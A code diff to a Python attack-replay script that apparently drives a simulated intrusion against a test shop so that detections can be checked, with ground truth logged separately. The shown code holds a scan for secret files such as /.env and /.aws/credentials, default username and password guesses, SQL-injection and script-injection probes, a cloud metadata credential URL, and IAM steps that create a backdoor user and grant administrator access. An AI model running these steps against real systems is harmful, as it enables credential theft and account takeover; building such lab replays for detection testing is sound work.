@@ -2,8 +2,8 @@
 
     python3 attack.py WORK PACE        (in the outer namespace)
 
-Every loop is bounded. PACE multiplies the pauses (1 is the recording's). What was done, and when, is written to
-``WORK/attack.json``: the ground truth, which no detection reads.
+Every loop is bounded. PACE multiplies the pauses (1 is the recording's). What was done, and when, is written
+to ``WORK/attack.json``: the ground truth, which no detection reads.
 """
 
 from __future__ import annotations
@@ -26,15 +26,19 @@ SCANNER = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)"
 BY_HAND = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
 WANTED = (
     "/.env", "/.env.backup", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-login.php",
-    "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/actuator/env", "/actuator/health", "/server-status",
-    "/etc/passwd", "/admin/", "/backup.zip", "/config.json", "/debug", "/login", "/api/v1/users", "/swagger.json",
-    "/robots.txt", "/sitemap.xml", "/.well-known/security.txt", "/console", "/cgi-bin/test.cgi", "/old/", "/test/",
+    "/wp-admin/setup-config.php", "/phpmyadmin/index.php", "/actuator/env", "/actuator/health",
+    "/server-status", "/etc/passwd", "/admin/", "/backup.zip", "/config.json", "/debug", "/login",
+    "/api/v1/users", "/swagger.json", "/robots.txt", "/sitemap.xml", "/.well-known/security.txt", "/console",
+    "/cgi-bin/test.cgi", "/old/", "/test/",
 )  # fmt: skip
-NAMES = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "deploy", "jenkins", "ftpuser", "minecraft",
-         "www", "mysql", "backup", "guest", "pi", "nagios", "tomcat", "hadoop", "user", "support")  # fmt: skip
+NAMES = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "deploy", "jenkins", "ftpuser",
+         "minecraft", "www", "mysql", "backup", "guest", "pi", "nagios", "tomcat", "hadoop", "user",
+         "support")  # fmt: skip
 GUESSES = ("123456", "password", "admin", "changeme")
 ROLES = f"http://{plan.METADATA}/latest/meta-data/iam/security-credentials/"
 PREVIEW = "/labels/preview?"
+ODD = ("/articles?category='", "/article?number=1%20or%201=1", "/articles/search?words=%3Cscript%3E")
+ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
 
 
 class Attack:
@@ -59,7 +63,7 @@ class Attack:
 
     def get(self, path: str, agent: str) -> str:
         """Ask the shop."""
-        connection = http.client.HTTPConnection(plan.SHOP_PUBLIC, 80, timeout=20, source_address=(FIRST, 0))
+        connection = http.client.HTTPConnection(plan.SHOP_PUBLIC, timeout=20, source_address=(FIRST, 0))
         try:
             connection.request("GET", path, headers={"User-Agent": agent})
             return connection.getresponse().read().decode("utf-8", "replace")
@@ -67,12 +71,12 @@ class Attack:
             connection.close()
 
     def scan(self) -> None:
-        """Ask for what should not be there, a few times over, and for the shop's own pages with odd values."""
+        """Ask for what should not be there, a few times, and for the shop's own pages with odd values."""
         for round_ in range(4):
             for path in WANTED:
                 self.get(path if round_ == 0 else f"{path}?{round_}", SCANNER)
                 self.pause(0.12)
-        for path in ("/articles?category='", "/article?number=1%20or%201=1", "/articles/search?words=%3Cscript%3E"):
+        for path in ODD:
             self.get(path, SCANNER)
             self.pause(0.5)
 
@@ -142,7 +146,7 @@ class Attack:
             ("iam", "ListUsers", {}),
             ("iam", "CreateUser", {"UserName": "support-sync"}),
             ("iam", "CreateAccessKey", {"UserName": "support-sync"}),
-            ("iam", "AttachUserPolicy", {"UserName": "priya", "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
+            ("iam", "AttachUserPolicy", {"UserName": "priya", "PolicyArn": ADMINISTRATOR}),
             ("iam", "PutRolePolicy", {"RoleName": plan.ROLE, "PolicyName": "more", "PolicyDocument": "{}"}),
             ("ec2", "DescribeInstances", {}),
             ("secretsmanager", "ListSecrets", {}),
